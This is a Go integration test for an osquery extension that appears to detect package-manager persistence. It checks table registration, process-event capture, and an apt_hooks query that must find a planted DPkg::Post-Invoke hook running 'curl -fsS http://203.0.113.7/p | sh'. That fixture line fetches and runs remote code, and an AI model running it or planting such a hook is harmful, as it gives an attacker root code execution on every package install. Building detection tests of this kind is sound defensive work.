package server_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/apache/thrift/lib/go/thrift"
	"github.com/osquery/osquery-go/gen/osquery"
	"github.com/osquery/osquery-go/mock"
	"github.com/osquery/osquery-go/transport"

	"github.com/pkgpersist/pkgpersist/extension/registry"
	"github.com/pkgpersist/pkgpersist/test/liveproc"
)

var (
	buildOnce sync.Once
	builtBin  string
	buildErr  error
)

// buildExtension compiles pkgpersist.ext once for the tests here (the cgo
// SQLite driver makes a cold build slow).
func buildExtension(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		dir, err := os.MkdirTemp("", "ppx-build")
		if err != nil {
			buildErr = err
			return
		}
		builtBin = filepath.Join(dir, "pkgpersist.ext")
		if out, err := exec.Command("go", "build", "-tags", "sqlite_vtable", "-o", builtBin, "..").CombinedOutput(); err != nil {
			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return builtBin
}

// fakeOsqueryd serves osquery-go's mock ExtensionManager on a unix socket,
// as osqueryd serves its extension manager.
type fakeOsqueryd struct {
	sock       string
	srv        *thrift.TSimpleServer
	registered chan osquery.ExtensionRegistry
}

const extensionUUID = 7

func startFakeOsqueryd(t *testing.T) *fakeOsqueryd {
	t.Helper()
	// unix socket paths must stay short (~100 bytes)
	dir, err := os.MkdirTemp("", "ppx")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	f := &fakeOsqueryd{sock: filepath.Join(dir, "em"), registered: make(chan osquery.ExtensionRegistry, 1)}
	ok := &osquery.ExtensionStatus{Code: 0, Message: "OK"}
	mgr := &mock.ExtensionManager{
		PingFunc: func(context.Context) (*osquery.ExtensionStatus, error) { return ok, nil },
		RegisterExtensionFunc: func(_ context.Context, info *osquery.InternalExtensionInfo, reg osquery.ExtensionRegistry) (*osquery.ExtensionStatus, error) {
			if info.Name != "pkgpersist" {
				t.Errorf("extension registered as %q", info.Name)
			}
			f.registered <- reg
			return &osquery.ExtensionStatus{Code: 0, Message: "OK", UUID: extensionUUID}, nil
		},
		DeregisterExtensionFunc: func(context.Context, osquery.ExtensionRouteUUID) (*osquery.ExtensionStatus, error) {
			return ok, nil
		},
		OptionsFunc: func(context.Context) (osquery.InternalOptionList, error) { return osquery.InternalOptionList{}, nil },
	}
	ts, err := transport.OpenServer(f.sock, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	f.srv = thrift.NewTSimpleServer2(osquery.NewExtensionManagerProcessor(mgr), ts)
	if err := f.srv.Listen(); err != nil {
		t.Fatal(err)
	}
	go f.srv.Serve()
	return f
}

// process runs the extension as osqueryd would start it.
type process struct {
	cmd    *exec.Cmd
	stderr *safeBuffer
	done   chan error
}

type safeBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *safeBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *safeBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func startExtension(t *testing.T, bin, sock string) *process {
	t.Helper()
	p := &process{stderr: &safeBuffer{}, done: make(chan error, 1)}
	// osqueryd's argv: separate entries, --verbose first
	p.cmd = exec.Command(bin, "--verbose", "--socket", sock, "--timeout", "3", "--interval", "1")
	p.cmd.Stderr = p.stderr
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { p.done <- p.cmd.Wait() }()
	t.Cleanup(func() {
		_ = p.cmd.Process.Kill()
	})
	return p
}

func (p *process) waitExit(t *testing.T, within time.Duration) {
	t.Helper()
	select {
	case err := <-p.done:
		if err != nil {
			t.Fatalf("extension exited with %v; stderr:\n%s", err, p.stderr.String())
		}
	case <-time.After(within):
		t.Fatalf("extension still running after %v; stderr:\n%s", within, p.stderr.String())
	}
}

// registerWithin bounds the wait for the extension to register: a
// liveness bound, not a timing check (both tests failed at 10 s on a
// machine whose two cores ran a load test and a second test run at once).
const registerWithin = 90 * time.Second

func TestRegistrationCallAndExit(t *testing.T) {
	bin := buildExtension(t)
	osqd := startFakeOsqueryd(t)
	ext := startExtension(t, bin, osqd.sock)

	var reg osquery.ExtensionRegistry
	select {
	case reg = <-osqd.registered:
	case <-time.After(registerWithin):
		t.Fatalf("no registration; stderr:\n%s", ext.stderr.String())
	}

	// every table, with the right columns, types and hidden flags
	for _, tb := range registry.Tables() {
		routes, ok := reg["table"][tb.Name]
		if !ok {
			t.Fatalf("table %s not registered; got %v", tb.Name, reg["table"])
		}
		if len(routes) != len(tb.Columns) {
			t.Fatalf("%s: %d columns registered, %d defined", tb.Name, len(routes), len(tb.Columns))
		}
		for i, c := range tb.Columns {
			r := routes[i]
			wantOp := "0"
			if c.Hidden {
				wantOp = strconv.Itoa(16 | 4) // HIDDEN | ADDITIONAL
			}
			if r["id"] != "column" || r["name"] != c.Name || r["type"] != string(c.Type) || r["op"] != wantOp {
				t.Errorf("%s column %d: registered %v, want %s %s op %s", tb.Name, i, r, c.Name, c.Type, wantOp)
			}
		}
	}

	// a Thrift call to the extension's own socket, with a root constraint
	trans, err := transport.Open(osqd.sock+"."+strconv.Itoa(extensionUUID), 5*time.Second)
	if err != nil {
		t.Fatalf("extension socket: %v; stderr:\n%s", err, ext.stderr.String())
	}
	client := osquery.NewExtensionClientFactory(trans, thrift.NewTBinaryProtocolFactoryDefault())
	root, _ := filepath.Abs("../../test/roots/planted")
	qc, _ := json.Marshal(map[string]any{"constraints": []map[string]any{{
		"name": "root", "affinity": "TEXT", "list": []map[string]any{{"op": 2, "expr": root}},
	}}})
	resp, err := client.Call(context.Background(), "table", "apt_hooks", osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status.Code != 0 {
		t.Fatalf("generate failed: %s", resp.Status.Message)
	}
	found := false
	for _, row := range resp.Response {
		if row["root"] != root {
			t.Fatalf("row root %q, want %q", row["root"], root)
		}
		if row["command"] == "curl -fsS http://203.0.113.7/p | sh" && row["hook"] == "DPkg::Post-Invoke" && row["active"] == "1" && row["path"] == "/etc/apt/apt.conf.d/10block.conf" {
			found = true
		}
	}
	if !found {
		t.Fatalf("planted hook missing from %d rows", len(resp.Response))
	}
	// a bad root is one clear error, not a crash
	qc, _ = json.Marshal(map[string]any{"constraints": []map[string]any{{
		"name": "root", "affinity": "TEXT", "list": []map[string]any{{"op": 2, "expr": "/nonexistent/root"}},
	}}})
	resp, err = client.Call(context.Background(), "table", "apt_hooks", osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil || resp.Status.Code == 0 {
		t.Fatalf("bad root: err %v, status %+v", err, resp.Status)
	}
	eventedCalls(t, client)
	trans.Close()

	// osqueryd goes away: the extension notices at its next ping and exits 0
	osqd.srv.Stop()
	ext.waitExit(t, 15*time.Second)
}

func TestExitsOnSignal(t *testing.T) {
	bin := buildExtension(t)
	osqd := startFakeOsqueryd(t)
	ext := startExtension(t, bin, osqd.sock)
	select {
	case <-osqd.registered:
	case <-time.After(registerWithin):
		t.Fatalf("no registration; stderr:\n%s", ext.stderr.String())
	}
	if err := ext.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	ext.waitExit(t, 10*time.Second)
	osqd.srv.Stop()
}

func TestMain(m *testing.M) {
	code := m.Run()
	if builtBin != "" {
		os.RemoveAll(filepath.Dir(builtBin))
	}
	os.Exit(code)
}

// eventedCalls: the extension captures while osqueryd runs it: as root,
// pm_event_status says the process source runs and pm_process_events
// (eid > 0, handed over as osqueryd hands constraints) has the exec of a
// program started now; without root, the status row says why not.
func eventedCalls(t *testing.T, client *osquery.ExtensionClient) {
	t.Helper()
	call := func(name string, constraints []map[string]any) []map[string]string {
		qc, _ := json.Marshal(map[string]any{"constraints": constraints})
		resp, err := client.Call(context.Background(), "table", name, osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
		if err != nil || resp.Status.Code != 0 {
			t.Fatalf("%s: err %v, status %+v", name, err, resp.Status)
		}
		return resp.Response
	}
	var process map[string]string
	for _, r := range call("pm_event_status", nil) {
		if r["source"] == "process" {
			process = r
		}
	}
	if os.Geteuid() != 0 {
		if process["running"] != "0" || process["error"] == "" {
			t.Fatalf("without root: %v", process)
		}
		return
	}
	if process["running"] != "1" {
		t.Fatalf("as root, the process source does not run: %v", process)
	}
	// the process lives until its row is seen: the connector does not
	// carry the arguments, and a process gone before the capture reads
	// /proc leaves an exec row without them (counted, not this test's
	// subject), which on a loaded machine happens to a short one
	cmd := liveproc.Start(t, "pkgpersist-protocol-test")
	pid := strconv.Itoa(cmd.Process.Pid)
	deadline := time.Now().Add(time.Minute)
	for time.Now().Before(deadline) {
		for _, r := range call("pm_process_events", []map[string]any{{"name": "eid", "affinity": "BIGINT", "list": []map[string]any{{"op": 4, "expr": "0"}}}}) {
			if r["event"] == "exec" && r["pid"] == pid && r["argv"] == `["/bin/sh","-c","read line","pkgpersist-protocol-test"]` {
				return
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("no exec row for pid %s", pid)
}
